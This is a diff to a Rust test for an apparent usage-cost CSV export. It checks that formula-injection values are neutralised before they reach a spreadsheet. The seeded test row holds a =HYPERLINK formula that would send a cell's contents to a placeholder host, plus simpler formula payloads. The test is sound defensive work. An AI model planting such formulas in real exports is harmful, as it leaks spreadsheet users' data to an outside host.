@@ -61,6 +61,14 @@ async fn insert_usage(db: &Database) {
             total = prompt + completion
         ));
     }
+    // A hostile tenant's model name and label value, which a spreadsheet would run as formulas.
+    values.push(
+        "(gen_random_uuid(), 'acme', 'homegrown', '=HYPERLINK(\"http://x.invalid/?\"&A2,\"x\")', \
+         10, 10, 20, 0.5, TIMESTAMPTZ '2026-01-26 00:00:00+00', 0, 0, 0, 'provided', \
+         '{\"use_case\": \"=1+1\", \"team\": \"@SUM(A1)\"}'::jsonb, \
+         TIMESTAMPTZ '2026-02-10 00:00:00+00', '\\x00'::bytea, 0, 240)"
+            .to_owned(),
+    );
     let sql = format!(
         "INSERT INTO gateway_mode_audit (id, tenant_id, provider, model, prompt_tokens, \
          completion_tokens, total_tokens, estimated_cost, created_at, cached_prompt_tokens, \
@@ -126,6 +134,25 @@ fn with_validator_names(csv: &str) -> String {
         out.push_str(",Usage\n");
     }
     out
+}
+
+/// The fields of one CSV line (RFC 4180 quoting; the exports put no line break in a field).
+fn csv_fields(line: &str) -> Vec<String> {
+    let mut fields = vec![String::new()];
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                chars.next();
+                fields.last_mut().expect("a field").push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => fields.push(String::new()),
+            (c, _) => fields.last_mut().expect("a field").push(c),
+        }
+    }
+    fields
 }
 
 /// focus-validator's verdict on `file`: Ok, or the failures it printed. It exits 0 whatever it
@@ -214,6 +241,28 @@ async fn the_focus_export_passes_focus_validator_and_statements_add_up() {
     assert!(exported.contains(",unpriced,"), "unpriced usage is kept");
     assert!(exported.contains("x_Label_use_case,x_Label_team"));
 
+    let cells: Vec<String> = exported.lines().flat_map(csv_fields).collect();
+    for formula in ["=HYPERLINK", "=1+1", "@SUM(A1)"] {
+        assert!(
+            cells
+                .iter()
+                .any(|cell| cell.starts_with(&format!("'{formula}"))),
+            "{formula} is in the export, neutralised"
+        );
+    }
+    let formulas: Vec<&String> = cells
+        .iter()
+        .filter(|cell| cell.starts_with(['=', '+', '@', '\t', '\r']))
+        .chain(
+            cells
+                .iter()
+                .filter(|cell| cell.starts_with('-') && cell.parse::<f64>().is_err()),
+        )
+        .collect();
+    assert!(
+        formulas.is_empty(),
+        "cells a spreadsheet runs: {formulas:?}"
+    );
     let renamed = write(dir.path(), "renamed.csv", &with_validator_names(&exported));
     if let Err(report) = validate(&renamed).await {
         panic!("focus-validator found violations:\n{report}");
